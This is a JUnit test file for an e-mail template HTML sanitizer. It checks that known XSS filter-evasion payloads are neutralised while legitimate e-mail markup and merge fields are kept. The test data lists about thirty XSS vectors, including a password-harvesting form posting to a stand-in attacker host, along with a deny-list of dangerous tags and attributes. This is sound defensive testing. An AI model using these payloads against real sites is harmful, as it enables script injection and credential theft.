package io.tally.sqs.html;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.tally.domain.communication.TemplatesUseCase;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Known XSS vectors (OWASP's filter evasion cheat sheet and friends) come out harmless; e-mail markup stays. */
class JsoupHtmlSanitizerTest {
    private final JsoupHtmlSanitizer sanitizer = new JsoupHtmlSanitizer();

    @ParameterizedTest
    @ValueSource(strings = {
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<IMG SRC=\"javascript:alert('XSS');\">",
            "<IMG SRC=JaVaScRiPt:alert('XSS')>",
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
            "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\" &#14;  javascript:alert(1)\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
            "<body onload=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<object data=\"https://evil.example/x.swf\"></object>",
            "<embed src=\"https://evil.example/x.swf\">",
            "<form action=\"https://evil.example/steal\"><input name=p type=password><button>Go</button></form>",
            "<div style=\"background:url(javascript:alert(1))\">x</div>",
            "<div style=\"width: expression(alert(1))\">x</div>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<link rel=stylesheet href=\"https://evil.example/x.css\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<base href=\"javascript:alert(1)//\">",
            "<p onmouseover=\"alert(1)\">hover</p>",
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
            "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>"})
    void known_vectors_come_out_harmless(String vector) {
        String clean = sanitizer.sanitize(vector).toLowerCase(Locale.ROOT);
        for (String bad : new String[]{"<script", "javascript:", "vbscript:", "onerror", "onload", "onclick", "onmouseover",
                "<iframe", "<object", "<embed", "<form", "<input", "<svg", "<math", "<style", "<link", "<meta", "<base",
                "expression(", "url(", "data:text", "data:image/svg"}) {
            assertFalse(clean.contains(bad), vector + " -> " + clean);
        }
    }

    @Test
    void email_markup_stays() {
        String html = "<table width=\"600\" cellpadding=\"0\" style=\"border:0\"><tr><td align=\"center\" bgcolor=\"#ffeedd\">"
                + "<h1>Hi</h1><p style=\"color:#333;font-size:16px\">Your <strong>points</strong></p>"
                + "<a href=\"https://rewards.example.com/x?a=1&amp;b=2\">Open</a> <a href=\"mailto:help@example.com\">Mail</a>"
                + "<img src=\"https://cdn.example.com/logo.png\" alt=\"Logo\" width=\"120\"></td></tr></table>";
        assertEquals(html.replace("<tr>", "<tbody><tr>").replace("</table>", "</tbody></table>"), sanitizer.sanitize(html),
                "as written, but for the tbody every browser adds");
    }

    @Test
    void merge_fields_survive_saving_even_in_links() {
        String html = "<p>Hi {{customer.firstName | friend}}</p><a href=\"{{link.unsubscribe}}\" onclick=\"x()\">Unsubscribe</a>"
                + "<script>{{customer.email}}</script>";
        String clean = TemplatesUseCase.sanitizeWithFields(html, sanitizer);
        assertEquals("<p>Hi {{customer.firstName | friend}}</p><a href=\"{{link.unsubscribe}}\">Unsubscribe</a>", clean);
        assertTrue(TemplatesUseCase.sanitizeWithFields("<a href=\"javascript:{{x}}\">x</a>", sanitizer).equals("<a>x</a>"));
    }
}
